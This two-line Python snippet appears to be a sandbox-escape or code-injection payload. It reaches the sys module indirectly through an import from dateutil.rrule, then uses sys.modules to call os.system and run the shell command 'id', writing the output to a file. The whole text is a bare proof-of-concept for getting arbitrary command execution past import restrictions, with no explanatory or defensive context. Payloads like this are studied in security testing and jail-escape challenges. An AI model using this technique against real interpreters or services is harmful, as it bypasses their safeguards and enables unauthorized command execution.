from dateutil.rrule import itertools, sys
sys.modules["os"].system("id>pf")
